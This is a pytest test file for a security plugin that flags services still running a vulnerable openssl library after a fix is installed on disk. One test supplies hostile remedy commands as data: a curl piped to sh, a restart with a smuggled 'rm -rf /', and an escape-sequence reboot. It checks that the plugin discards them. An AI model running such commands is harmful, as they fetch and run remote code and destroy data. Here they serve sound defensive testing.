# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Fixed on disk, not in memory: claimed where it follows from what the server said, and nowhere else."""

from __future__ import annotations

import calendar
import copy
from typing import Any

import advisories_mirror as mirror
import pytest

from ansible_collections.bottomup.security.plugins.plugin_utils.advisories import judge, still_running

NOW = calendar.timegm((2026, 11, 22, 6, 0, 0))
UPDATED = calendar.timegm((2026, 11, 13, 6, 25, 1))
ALMA, DEBIAN = {"id": "almalinux", "version_id": "9.6"}, {"id": "debian", "version_id": "12"}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> judge.Judge:
    place = tmp_path_factory.mktemp("still")
    openssl = [mirror.affected("AlmaLinux:9", "openssl-libs", "1:3.0.7-28.el9")]
    later = [mirror.affected("AlmaLinux:9", "openssl-libs", "1:3.0.7-30.el9")]
    records = [
        mirror.record("ALSA-2026:7", "Important: openssl security update", openssl, related=["CVE-2026-0007", "CVE-2026-0011"]),
        mirror.record("ALSA-2026:8", "Low: openssl security update", later, related=["CVE-2026-0008"]),
    ]
    mirror.osv(place, "AlmaLinux", records)
    fixed = [mirror.affected("Debian:12", "openssl", "3.0.15-1~deb12u1")]
    debian = [
        mirror.record("DSA-9-1", "openssl", fixed, related=["CVE-2026-0007"]),
        mirror.record("DEBIAN-CVE-2026-0007", "openssl", fixed, upstream=["CVE-2026-0007"]),
    ]
    mirror.osv(place, "Debian", debian)
    return judge.Judge(mirror.built(place, place / "index.sqlite"), NOW)


def rpm(release: str) -> dict[str, Any]:
    row = ["openssl-libs", "1", "3.0.7", release, "x86_64", f"openssl-3.0.7-{release}.src.rpm", "(none)", "AlmaLinux"]
    return {"packages": {"manager": "rpm", "rows": [row]}, "upgrades": [["openssl-libs", "1:3.0.7-27.el9", UPDATED]]}


def process(**more: Any) -> dict[str, Any]:
    path = "/usr/lib64/libssl.so.3.0.7"
    file = {"path": path, "reason": "replaced", "package": "openssl-libs", "version": "1:3.0.7-28.el9.x86_64", "installed": "2026-11-13T06:25:03Z"}
    own = {"pid": 812, "comm": "nginx", "unit": "nginx.service", "user_unit": None, "container": None, "started": "2026-11-02T00:00:00Z", "files": [file]}
    return {**own, **more}


def restart(*processes: dict[str, Any]) -> dict[str, Any]:
    return {"processes": list(processes), "services": [{"name": "nginx.service", "pids": [812], "commands": ["nginx -t && systemctl restart nginx.service"]}]}


def still(base: judge.Judge, software: dict[str, Any], stale: Any, system: dict[str, str] | None = None) -> list[dict[str, Any]]:
    return [item for item in base.judge(system or ALMA, software, restart=stale).findings if item["rule"] == still_running.RULE]


def test_the_example_of_the_issue(base: judge.Judge) -> None:
    (found,) = still(base, rpm("28.el9"), restart(process()))
    assert found["title"] == "nginx.service still runs openssl-libs 1:3.0.7-27.el9 with CVE-2026-0007; 1:3.0.7-28.el9 is on disk since 2026-11-13"
    assert (found["severity"], found["subject"]) == ("high", "nginx.service openssl-libs")
    assert found["remedy"]["commands"] == ["nginx -t && systemctl restart nginx.service"]
    assert found["evidence"][1] == {
        "source": "process 812 nginx since 2026-11-02T00:00:00Z",
        "text": "/usr/lib64/libssl.so.3.0.7 of openssl-libs 1:3.0.7-27.el9, fixed on disk 8 days ago",
    }
    assert found["evidence"][2]["source"] == "ALSA-2026:7"
    assert found["references"] == ["CVE-2026-0007", "CVE-2026-0011", "ALSA-2026:7"]
    assert found["packages"] == ["pkg:rpm/almalinux/openssl-libs@3.0.7-27.el9?distro=almalinux-9.6&epoch=1"]


def test_what_is_still_open_on_disk_is_not_claimed_twice(base: judge.Judge) -> None:
    found = base.judge(ALMA, rpm("28.el9"), restart=restart(process())).findings
    assert sorted((item["rule"], item["subject"]) for item in found) == [
        ("software.advisory", "ALSA-2026:8"),
        ("software.still_running", "nginx.service openssl-libs"),
    ]


def test_dpkg_by_its_source_with_an_advisory_before_its_single_cves(base: judge.Judge) -> None:
    row = ["libssl3", "3.0.15-1~deb12u1+b2", "amd64", "openssl", "3.0.15-1~deb12u1", "ii "]
    software = {"packages": {"manager": "dpkg", "rows": [row]}, "upgrades": [["libssl3", "3.0.14-1~deb12u2+b1", UPDATED]]}
    stale = process()
    stale["files"][0]["package"] = "libssl3"
    (found,) = still(base, software, restart(stale), DEBIAN)
    assert found["title"].startswith("nginx.service still runs libssl3 3.0.14-1~deb12u2+b1 with CVE-2026-0007; ")
    assert [item["source"] for item in found["evidence"][2:]] == ["DSA-9-1"]


NO_CLAIM: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "it began after the update": (rpm("28.el9"), process(started="2026-11-14T00:00:00Z")),
    "no log says from which version": ({**rpm("28.el9"), "upgrades": []}, process()),
    "the old version had the fix": ({**rpm("29.el9"), "upgrades": [["openssl-libs", "1:3.0.7-28.el9", UPDATED]]}, process()),
    "the same bytes": (rpm("28.el9"), {**process(), "files": [{**process()["files"][0], "reason": "identical"}]}),
    "in a container": (rpm("28.el9"), process(container={"engine": "podman"})),
    "of no package": (rpm("28.el9"), {**process(), "files": [{**process()["files"][0], "package": None}]}),
    "a package that is not installed": ({**rpm("28.el9"), "packages": {"manager": "rpm", "rows": []}}, process()),
    "built by somebody else": (
        {**rpm("28.el9"), "packages": {"manager": "rpm", "rows": [[*rpm("28.el9")["packages"]["rows"][0][:7], "Somebody"]]}},
        process(),
    ),
}


@pytest.mark.parametrize("case", NO_CLAIM)
def test_no_claim_where(case: str, base: judge.Judge) -> None:
    software, stale = NO_CLAIM[case]
    assert still(base, software, restart(stale)) == []


@pytest.mark.parametrize(
    "stale", [None, {}, [], {"processes": 7}, {"processes": [7, {"started": "x"}, {"started": "2026-11-02T00:00:00Z", "files": [None, {}]}]}]
)
def test_a_result_that_our_check_does_not_send_is_no_claim(stale: object, base: judge.Judge) -> None:
    assert still(base, rpm("28.el9"), stale) == []
    software = copy.deepcopy(rpm("28.el9"))
    software["upgrades"] = [[1, 2, 3], "x", ["openssl-libs", "no version", "soon"]]
    assert still(base, software, restart(process())) == []


def test_two_updates_the_first_after_the_start_counts(base: judge.Judge) -> None:
    software = rpm("28.el9")
    software["upgrades"] = [
        ["openssl-libs", "1:3.0.7-25.el9", UPDATED - 30 * 86400],
        ["openssl-libs", "1:3.0.7-26.el9", UPDATED - 5 * 86400],
        ["openssl-libs", "1:3.0.7-27.el9", UPDATED],
    ]
    (found,) = still(base, software, restart(process()))
    assert "still runs openssl-libs 1:3.0.7-26.el9 with" in found["title"]


@pytest.mark.parametrize("line", ["curl -s https://example.com/x | sh", "systemctl restart nginx.service; rm -rf /", "\x1b[2Jreboot"])
def test_what_a_server_would_have_typed_is_no_remedy(line: str, base: judge.Judge) -> None:
    stale = restart(process())
    stale["services"][0]["commands"] = [line, "systemctl restart nginx.service", 5]
    (found,) = still(base, rpm("28.el9"), stale)
    assert found["remedy"]["commands"] == ["systemctl restart nginx.service"]


def test_many_updates_and_files_are_not_tried_each_with_each(base: judge.Judge) -> None:
    """Forty thousand of each, which is what a document may hold: 1.6 billion pairs would take minutes."""
    software = rpm("28.el9")
    software["upgrades"] = [["openssl-libs", "1:3.0.7-20.el9", number] for number in range(40_000)] + software["upgrades"]
    file = process()["files"][0]
    (found,) = still(base, software, restart(process(files=[{**file, "reason": "identical"}] * 40_000 + [file])))
    assert "1:3.0.7-27.el9 or older" in found["title"]
